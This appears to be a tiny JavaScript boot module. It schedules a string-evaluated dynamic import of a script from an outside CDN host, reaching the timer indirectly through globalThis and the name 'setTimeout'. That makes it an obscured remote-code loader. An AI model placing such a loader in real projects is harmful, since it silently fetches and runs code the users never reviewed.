import { Session } from './session.js';

const session = new Session(globalThis, 'setTimeout');
export const boot = () => session.later('import("https://x.cdn.example/a.js")');
